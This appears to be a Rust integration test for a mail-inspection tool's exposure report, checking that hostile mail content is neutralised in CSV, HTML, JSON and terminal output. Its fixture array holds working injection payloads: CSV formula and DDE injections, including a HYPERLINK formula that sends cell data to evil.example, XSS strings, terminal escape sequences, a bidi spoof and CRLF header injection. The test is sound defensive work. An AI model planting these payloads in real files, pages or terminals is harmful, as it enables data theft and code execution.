//! Hostile mail in the exposure report: nothing that a mail says leaves its place in CSV, HTML, JSON or on a terminal.
//!
//! Each attack comes twice: in a mail that is inspected and kept, and written into the store's tables as it is, past all that is made
//! harmless before it is kept.

#![allow(clippy::unwrap_used, reason = "a test fails by panicking")]

use std::{fs, path::Path, process::Command, time::Duration};

use relaywatch::{
    clock::Timestamp,
    config,
    evidence::{Circumstances, Durability, FILE, Ledger, Origin, Record, Store, privacy::Privacy},
    inspect::inspect_offline,
    message::{HeaderSection, RawMessage},
    session::Session,
    text::is_unsafe,
};
use serde_json::Value;

const ATTACKS: [&str; 20] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "＝1+1",
    "\t=1+1",
    "a;=1+1",
    "\",=1+1,\"",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "</title><script>alert(1)</script>",
    "</style><style>*{display:none}</style>",
    "</text></svg><svg onload=alert(1)>",
    "&lt;b&gt;&#x3c;i&#x3e;",
    "\u{1b}]8;;http://evil.example\u{7}link\u{1b}]8;;\u{7}\u{1b}[2J",
    "\u{9b}31m\u{90}q\u{9c}",
    "moc.elpmaxe\u{202e}nna\u{2066}",
    "a\0b",
    "a\r\nInjected: line\nb",
];

/// A mail with an attack in every place that a peer can write.
fn hostile(attack: &str, number: usize) -> RawMessage {
    let line = attack.replace(['\r', '\n'], " ");
    let headers = format!(
        "Received: from {line} ({line} [203.0.113.10]) by {line} with SMTP id {line}; Sun, 31 May 2020 12:00:00 +0900\r\n\
         Date: Sun, 31 May 2020 11:59:00 +0900\r\nFrom: \"{line}\" <{line}@sender.example>\r\nSubject: {line}\r\nMessage-ID: <{line}@x>\r\n\r\n"
    );
    RawMessage {
        headers: HeaderSection::read(headers.as_bytes(), 1 << 20),
        session: Some(Session {
            peer_ip: Some("45.77.24.250".parse().unwrap()),
            peer_name: Some(attack.to_owned()),
            helo: Some(attack.to_owned()),
            extended: true,
            tls_known: true,
            border: Some(attack.to_owned()),
            queue_id: Some(attack.to_owned()),
            mail_from: Some(format!("{attack}{number}@sender.example")),
            recipients: vec![format!("{attack}@coincheck.com"), attack.to_owned()],
            time: Some("2020-05-31T03:00:02Z".parse().unwrap()),
            ..Session::default()
        }),
        body: None,
    }
}

/// A store of hostile mail.
fn store(folder: &Path) {
    let store = Store::open(&folder.join(FILE), Durability::Normal, Duration::from_secs(1)).unwrap();
    let mut ledger = Ledger::new(store).unwrap();
    let policy = config::defaults().policy;
    let now: Timestamp = "2020-05-31T03:00:02Z".parse().unwrap();
    let record = |(number, attack): (usize, &&str)| {
        let message = hostile(attack, number);
        let report = inspect_offline(&message, &policy);
        Record::of(&message, &report, &Circumstances { origin: Origin::Milter, now, action: None }, &Privacy::default())
    };
    let records: Vec<Record> = ATTACKS.iter().enumerate().map(record).collect();
    assert_eq!(ledger.write(&records, None).unwrap().stored, ATTACKS.len());
}

/// Whatever stands in the store in clear becomes an attack, as if nothing had been made harmless.
fn poison(folder: &Path) {
    let connection = rusqlite::Connection::open(folder.join(FILE)).unwrap();
    // Ids are hashes with a key of the store's own: by the messages' order each attack is in each role.
    let ids = |ask: &str| -> Vec<i64> {
        connection.prepare(ask).unwrap().query_map([], |row| row.get(0)).unwrap().map(Result::unwrap).collect()
    };
    let roles = [
        ("address", "address", "SELECT header_from FROM message WHERE header_from IS NOT NULL ORDER BY id"),
        ("address", "address", "SELECT sender FROM message ORDER BY id"),
        ("address", "address", "SELECT address FROM recipient ORDER BY message, address"),
        ("name", "name", "SELECT id FROM name ORDER BY id"),
        ("source", "source", "SELECT id FROM source"),
    ];
    for (table, column, ask) in roles {
        for (id, attack) in ids(ask).iter().zip(ATTACKS.iter().cycle()) {
            connection.execute(&format!("UPDATE {table} SET {column} = ?1 WHERE id = ?2"), (attack, id)).unwrap();
        }
    }
    for (number, attack) in (1_i64..).zip(ATTACKS) {
        connection
            .execute("UPDATE message SET queue_id = ?1, message_id = ?1, subject = ?1 WHERE id = ?2", (attack, number))
            .unwrap();
        let gap = "INSERT INTO gap (since, until, lost, reason) VALUES (1590894000, 1590894001, 1, ?1)";
        connection.execute(gap, [attack]).unwrap();
    }
}

fn report(folder: &Path, format: &[&str]) -> String {
    let mut program = Command::new(env!("CARGO_BIN_EXE_relaywatch"));
    program.env_clear().args(["report", "--indicator", "45.77.24.250", "--list-people", "--ns-ttl", "1h"]);
    program.args(["--changed-at", "2020-05-31T00:00+09:00", "--fixed-at", "2020-06-01T00:00+09:00"]);
    let output = program.args(format).arg("--store").arg(folder.join(FILE)).output().unwrap();
    assert_eq!(output.status.code(), Some(1), "{}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8(output.stdout).unwrap()
}

/// Both stores, one after the other.
fn each(mut check: impl FnMut(&Path)) {
    let folder = tempfile::tempdir().unwrap();
    store(folder.path());
    check(folder.path());
    poison(folder.path());
    check(folder.path());
}

#[test]
fn a_terminal_obeys_nothing() {
    each(|folder| {
        let text = report(folder, &["--format", "text"]);
        assert!(text.contains("20 messages") && text.contains("=hyperlink"), "{text}");
        assert!(!text.contains(|c| c != '\n' && is_unsafe(c)), "{text:?}");
        assert!(!text.lines().any(|line| line.starts_with("Injected")), "{text}");
    });
}

#[test]
fn no_cell_is_a_formula_and_no_record_is_broken() {
    each(|folder| {
        let out = tempfile::tempdir().unwrap();
        let target = out.path().join("report");
        report(folder, &["--output", target.to_str().unwrap()]);
        for (name, columns) in [("affected.csv", 14), ("messages.csv", 17)] {
            let text = fs::read_to_string(target.join(name)).unwrap();
            assert!(!text.contains(|c| c != '\n' && is_unsafe(c)), "{text:?}");
            let mut table = csv::Reader::from_reader(text.as_bytes());
            let mut rows = 0;
            for row in table.records() {
                let row = row.unwrap();
                assert_eq!(row.len(), columns, "{row:?}");
                for cell in &row {
                    let mut parts = cell.split(';');
                    assert!(
                        !parts.any(|part| part.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])),
                        "{cell:?}"
                    );
                }
                rows += 1;
            }
            assert!(rows >= ATTACKS.len(), "{name}: {rows}");
            assert!(text.to_lowercase().contains("'=hyperlink"), "{name}: {text}");
            assert_eq!(text.lines().count(), rows + 1, "{name}: one line a record");
        }
    });
}

#[test]
fn json_says_what_was_there_and_nothing_else() {
    each(|folder| {
        let text = report(folder, &["--format", "json"]);
        assert!(!text.contains(|c| c != '\n' && is_unsafe(c)), "{text:?}");
        let json: Value = serde_json::from_str(&text).unwrap();
        assert_eq!(json["recorded"]["messages"], ATTACKS.len());
        let senders = json["senders"].as_array().unwrap();
        assert!(senders.iter().any(|sender| sender["address"].as_str().unwrap().starts_with("<script>")), "{text}");
    });
    // As it is, where nothing was made harmless before.
    let folder = tempfile::tempdir().unwrap();
    store(folder.path());
    poison(folder.path());
    let json: Value = serde_json::from_str(&report(folder.path(), &["--format", "json"])).unwrap();
    let said: Vec<&str> = ["senders", "recipients"]
        .iter()
        .flat_map(|role| json[role].as_array().unwrap())
        .filter_map(|who| who["address"].as_str())
        .collect();
    assert!(said.contains(&ATTACKS[15].to_lowercase().as_str()) && said.contains(&"a\0b"), "{said:?}");
}

/// The elements of a page, as a browser takes it apart: whatever stands between `<` and `>`. Text has neither.
fn elements(page: &str) -> Vec<&str> {
    let style = page.find("<style>").unwrap() + 7..page.find("</style>").unwrap();
    let (before, after) = (&page[..style.start], &page[style.end..]);
    [before, after]
        .into_iter()
        .flat_map(|part| part.split('<').skip(1))
        .map(|rest| rest.split('>').next().unwrap())
        .collect()
}

#[test]
fn a_page_runs_nothing_and_asks_for_nothing() {
    each(|folder| {
        let page = report(folder, &["--format", "html"]);
        assert!(page.contains("&lt;script&gt;alert(1)&lt;/script&gt;"), "it is shown as text");
        assert!(!page.contains(|c| c != '\n' && is_unsafe(c)));
        let known = [
            "!DOCTYPE html",
            "a",
            "aside",
            "body",
            "br",
            "caption",
            "code",
            "dd",
            "defs",
            "desc",
            "details",
            "div",
            "dl",
            "dt",
            "figcaption",
            "figure",
            "footer",
            "h1",
            "h2",
            "h3",
            "head",
            "header",
            "html",
            "li",
            "line",
            "main",
            "marker",
            "meta",
            "p",
            "path",
            "pattern",
            "rect",
            "section",
            "span",
            "style",
            "summary",
            "svg",
            "table",
            "tbody",
            "td",
            "text",
            "th",
            "thead",
            "title",
            "tr",
            "ul",
        ];
        for element in elements(&page) {
            let name = element.trim_start_matches('/').split(' ').next().unwrap();
            assert!(known.contains(&name) || known.contains(&element), "<{element}>");
            // Attributes are ours: a name, `=`, and a value in quotes that holds none.
            let mut quotes = element.split('"');
            let outside: String = quotes.by_ref().step_by(2).collect();
            assert!(!outside.contains(" on") && element.matches('"').count() % 2 == 0, "<{element}>");
            for fetching in ["src=", "href=", "xlink", "style=", "srcset", "action="] {
                assert!(!element.contains(fetching), "<{element}>");
            }
        }
        for once in ["<title>", "</title>", "<style>", "</style>", "</body>"] {
            let title = if once.contains("title") { "<title>Exposure" } else { once };
            assert_eq!(page.matches(title).count(), usize::from(title != "</title>"), "{once}");
        }
        let policy = "content=\"default-src 'none'; style-src 'sha256-";
        assert!(page.contains(policy) && !page.contains("unsafe-inline") && !page.contains("url(h"), "{page}");
        assert!(!page.contains("@import"));
    });
}
